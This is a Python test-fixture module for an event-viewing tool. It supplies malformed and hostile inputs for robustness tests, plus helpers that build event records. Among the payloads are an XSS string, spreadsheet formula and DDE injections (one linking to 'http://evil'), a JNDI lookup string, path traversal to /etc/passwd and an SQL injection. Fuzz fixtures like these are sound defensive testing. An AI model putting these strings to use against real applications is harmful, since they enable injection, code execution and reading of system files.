"""Hostile and careless input, for everything that reads, shows or writes events."""

from __future__ import annotations

from collections.abc import Sequence

from app.store.store import Store
from eventscope.connector import Block, Record
from eventscope.step import Phase

NOON = 1_763_726_767_123_456_789
"""2025-11-21T12:06:07.123456789Z."""

PAYLOADS: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \n\t",
    "not json": b"hello",
    "html": b"<img src=x onerror=alert(1)><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "truncated": b'{"a": 1',
    "trailing": b'{"a": 1} {"b": 2}',
    "nan": b'{"a": NaN, "b": [Infinity, -Infinity]}',
    "bare nan": b"NaN",
    "huge float": b"[1e400]",
    "beyond doubles": b'{"id": 9007199254740993, "big": 18446744073709551616}',
    "endless integer": b"1" * 5_000,
    "leading zero": b"[01]",
    "comment": b'{"a": 1} // x',
    "single quotes": b"{'a': 1}",
    "duplicate keys": b'{"a": 1, "a": 2}',
    "odd keys": b'{"__proto__": 1, "": 2, "\\u0000": 3}',
    "escaped surrogate": b'{"a": "\\ud800"}',
    "raw surrogate": b'"\xed\xa0\x80"',
    "overlong": b'"\xc0\xaf"',
    "bom": b'\xef\xbb\xbf{"a": 1}',
    "utf-16": '{"a": 1}'.encode("utf-16"),
    "latin-1": "naïve".encode("latin-1"),
    "raw control": b'{"a": "\x01"}',
    "escaped controls": b'{"a": "\\u001b[31m\\u0007\\r\\n"}',
    "ansi": b"\x1b[31mred\x1b]8;;http://x\x07link",
    "c1 and del": "a\x7f\x9b31mb".encode(),
    "bidi": ("\u202eabc\u2066" * 1000).encode(),
    "bidi in json": '{"a": "\u202eabc\u2028\u2029\u0085\ufeff\U000e0041"}'.encode(),
    "zero width": "a\u200bb\u200d".encode(),
    "combining": ("e" + "\u0301" * 5_000).encode(),
    "lines": b'{\r\n  "a": [\n    1,\r\n    2\n  ]\n}\n',
    "deep": b"[" * 150 + b"]" * 150,
    "too deep": b"[" * 2_000 + b"]" * 2_000,
    "bottomless": b'{"a":' * 100_000,
    "many keys": b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(10_000)) + b"}",
    "nul": b"a\0b",
    "all bytes": bytes(range(256)),
    "pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x04test\x94.",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "formula": b"=HYPERLINK(\"http://evil\")",
    "dde": b"=cmd|' /C calc'!A0",
    "plus": b"+1+1",
    "minus": b"-1+1",
    "at": b"@SUM(1)",
    "tab": b"\t=1",
    "return": b"\r=1",
    "quotes": b'a","b\n"c',
    "format": b"%s %n {0.__class__} ${jndi:ldap://x}",
    "null": b"null",
    "zero": b"-0.0",
    "string": b'"text"',
    "number as written": b"[1.10, 1e5, 0.1234567890123456789]",
}  # fmt: skip

TEXTS = (
    "=1+1",
    "@x",
    "-2",
    "+3",
    "a\nb\r\nc",
    "\x1b[2J",
    "\u202egnp.exe",
    "a\u200b\u2028\u0085\U000e0041",
    "\ud800 alone \udfff",
    "<img src='file:///etc/passwd'>",
    "../../etc/passwd",
    "%n{}",
    "e" + "\u0301" * 500,
    "'; drop table events; --",
    "NaN",
    "",
)

HEADERS = (
    '[["a", "b"], ["a", "c"], ["n", 1.50]]',
    '[["nan", NaN], ["inf", -Infinity]]',
    '[["nested", {"x": [1, null]}]]',
    '[["odd", "\ud800"]]',
    '{"not": "pairs"}',
    "[[1, 2]]",
    "not json",
    "[]",
)


def store_of(records: Sequence[Record], *, source: str = "test", observed_at: int = NOON) -> Store:
    """A store that holds these records."""
    store = Store()
    store.append(source, Block.of(records), observed_at)
    return store


def hostile_records() -> list[Record]:
    """Each payload, then each text in every field that takes one, then each form of headers."""
    payloads = [Record(type=f"payload {name}", payload=payload) for name, payload in PAYLOADS.items()]
    texts = [
        Record(
            type=text, category=text, payload=text.encode("utf-8", "surrogatepass"), id=text, key=text, error=text,
            correlation_id=text, causation_id=text, producer=text, channel=text, subscription=text, envelope=text,
            phase=phase,
        )
        for text in TEXTS
        for phase in (Phase.PUBLISHED, Phase.FAILED)
    ]  # fmt: skip
    headers = [Record(type="headers", headers=text) for text in HEADERS]
    numbers = [
        Record(type="numbers", occurred_at=at, queue_ns=ns, handle_ns=ns, total_ns=ns, priority=priority, attempt=3)
        for at, ns, priority in [(0, 0, 3), (-1, -1_500_000, 99), (2**63 - 1, 2**62, -7), (1, 1, 0)]
    ]
    return payloads + texts + headers + numbers


def life(event_id: str = "e1", correlation_id: str = "c1", *, cause: str | None = None, at: int = NOON) -> list[Record]:
    """An event that is published to one subscription, fails there, is retried and handled."""

    def step(phase: Phase, after_ms: int, **more: object) -> Record:
        shared = {"type": "order.created", "id": event_id, "correlation_id": correlation_id, "causation_id": cause}
        who = {} if phase is Phase.PUBLISHED else {"subscription": "mailer"}
        return Record(**shared, **who, phase=phase, occurred_at=at + after_ms * 1_000_000, **more)  # type: ignore[arg-type]

    took = {"queue_ns": 1_000_000, "handle_ns": 2_000_000}
    return [
        step(Phase.PUBLISHED, 0, payload=b'{"total": 19.90}', fanout=1, producer="shop", priority=2),
        step(Phase.DELIVERED, 1, attempt=1),
        step(Phase.FAILED, 3, attempt=1, error="no route", **took),
        step(Phase.RETRIED, 4, attempt=1),
        step(Phase.DELIVERED, 5, attempt=2),
        step(Phase.HANDLED, 7, attempt=2, total_ns=7_000_000, **took),
    ]
